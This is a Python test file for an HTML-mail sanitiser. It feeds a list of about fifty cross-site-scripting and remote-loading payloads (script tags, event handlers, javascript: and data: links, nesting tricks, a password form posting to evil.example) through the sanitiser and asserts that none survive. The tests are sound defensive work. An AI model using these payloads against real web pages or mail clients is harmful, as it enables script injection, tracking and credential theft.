"""HTML mail is shown without anything in it acting, and read in linear time."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from complaints.mail_html import safe_html, text_of_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif' width=1>",
    "<img srcset='https://evil.example/a 2x' lowsrc=//evil.example/b>",
    "<img src=cid:1@evil.example alt='photo'>",
    "<picture><source srcset=//evil.example/a></picture>",
    "<video poster=//evil.example/a src=//evil.example/b></video>",
    "<audio src=//evil.example/a autoplay>",
    "<body background=//evil.example/a onload=alert(1)>",
    "<table background=//evil.example/a><tr><td background=//evil.example/b>x",
    "<p style='background:url(//evil.example/a)'>x",
    '<p style="width:expression(alert(1));behavior:url(a.htc);position:fixed">x',
    "<style>@import '//evil.example/a.css';</style>",
    "<link rel=stylesheet href=//evil.example/a.css><link rel=prefetch href=//evil.example/b>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/ target=_top>",
    "<iframe src=//evil.example/ srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=//evil.example/></frameset>",
    "<object data=//evil.example/a.swf><embed src=//evil.example/a.swf></object>",
    "<applet code=a archive=//evil.example/a.jar></applet>",
    "<form action=//evil.example/><input name=password><button formaction=//evil.example/b>go",
    "<isindex action=//evil.example/ prompt=password>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvA&#115;cript&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x' >x</a><a href='file:///etc/passwd'>y</a><a href='//evil.example'>z</a>",
    "<a href='https://evil.example' target=_top onclick=alert(1) ping=//evil.example/p>x</a>",
    "<a href='https://evil.example' download=x.exe referrerpolicy=unsafe-url>x</a>",
    "<a id=complaints name=csrf class=button>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea><title><script>alert(1)</script></title>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<div contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee><bgsound src=//evil.example/a><keygen autofocus>",
    "<img \x00src=x one\x00rror=alert(1)><scr\x00ipt>alert(1)</scr\x00ipt>",
    "<td colspan=99999999999 rowspan='2;x'>x<ol start=-5><li>y",
    "</div></body></html><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<select><option><script>alert(1)</script></select>",
    '<a href=https://evil.example/?a="><script>alert(1)</script>">x</a>',
    '<p title="<script>alert(1)</script>" lang="x" dir="rtl" id="main" class="notice">x</p>',
]
TAGS = {
    *("a", "abbr", "address", "article", "b", "big", "blockquote", "br", "caption", "center"),
    *("cite", "code", "col", "colgroup", "dd", "del", "dfn", "div", "dl", "dt", "em", "figcaption"),
    *("figure", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hr", "i", "img", "ins"),
    *("kbd", "li", "mark", "ol", "p", "pre", "q", "rp", "rt", "ruby", "s", "samp", "section"),
    *("small", "span", "strike", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th"),
    *("thead", "time", "tr", "tt", "u", "ul", "var", "wbr"),
}
LINK = re.compile(r"(?:https?://|mailto:|tel:)", re.IGNORECASE)


class Shown(HTMLParser):
    """Fails at the first tag or attribute that a page of ours must not show."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at a tag."""
        assert tag in TAGS, tag
        for name, value in attrs:
            assert (tag, name) in {
                *(("a", "href"), ("a", "rel"), ("img", "alt"), ("ol", "start")),
                *((cell, span) for cell in ("td", "th") for span in ("colspan", "rowspan")),
            }, (tag, name)
            if name == "href":
                assert LINK.match(value or ""), value
            if name == "rel":
                assert value == "noopener noreferrer nofollow"
            if name.endswith("span"):
                assert 1 <= int(value or 0) <= 99

    def handle_comment(self, data: str) -> None:
        """Refuse a comment, which some programs run."""
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        """Refuse a declaration."""
        raise AssertionError(decl)


def harmless(html: str) -> None:
    """Fail if anything in a page acts, loads or leads elsewhere than it may."""
    page = Shown()
    page.feed(html)
    page.close()


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_shows_nothing_that_acts(payload: str) -> None:
    """Whatever is tried, what is left are words, tables and links; the words around it stay."""
    shown = safe_html(f"<p>退款 before</p>{payload}")
    harmless(shown)
    assert "退款 before" in shown
    harmless(safe_html(shown))


@given(st.lists(st.sampled_from(PAYLOADS), max_size=4), st.text(max_size=40))
@settings(max_examples=200, deadline=None)
def test_shows_nothing_that_acts_in_any_mixture(payloads: list[str], text: str) -> None:
    """Pieces that are harmless alone are so together, cut anywhere."""
    whole = text.join(payloads)
    harmless(safe_html(whole))
    harmless(safe_html(whole[: len(whole) // 2]))


def test_keeps_what_a_letter_is_made_of() -> None:
    """Paragraphs, lists, tables, quotations and links of the web, mail and phone stay."""
    html = (
        "<p>请 <b>退款</b><br>谢谢</p><blockquote>old</blockquote><table><tbody><tr>"
        '<td colspan="2">1</td></tr></tbody></table><ul><li>a</li></ul><img alt="照片">'
    )
    assert safe_html(html) == html
    for address in ("https://example.cn/?a=1", "mailto:a@example.cn", "tel:95588"):
        assert f'href="{address}"' in safe_html(f'<a href="{address}">x</a>')


@pytest.mark.parametrize(
    "tag", ["div", "blockquote><div", "b", "table><tr><td", "a><div", "svg><math"]
)
def test_shows_a_page_nested_without_end_as_words(tag: str) -> None:
    """Sanitisers build trees, and trees of tags thousands deep take squares; words don't."""
    deep = "a&lt;" + f"<{tag}>" * 20_000 + "deep <script>x</script>"
    assert safe_html(deep).startswith("<p>a&lt;")
    harmless(safe_html(deep))
    harmless(safe_html(f"<{tag}>" * (9_000 // (tag.count("<") + 1))))
    harmless(safe_html("<a " + " ".join(f"a{n}=1" for n in range(60_000)) + ">x"))


def test_reads_the_words_of_a_page_in_their_order() -> None:
    """Blocks are paragraphs, cells are apart, quotations have their marks, entities are undone."""
    html = (
        "<html><head><title>no</title><style>p{}</style></head><body><p>您好&nbsp;&amp;<br>退款</p>"
        "<table><tr><td>a</td><td>b</td></tr></table><ol><li>c</ol><!-- no --><script>no</script>"
        "<blockquote>old<blockquote>older</blockquote></blockquote>1 < 2 &#20320;"
    )
    assert text_of_html(html) == ("您好 &\n退款\n\na b\n- c\n\n> old\n>\n> > older\n1 < 2 你")
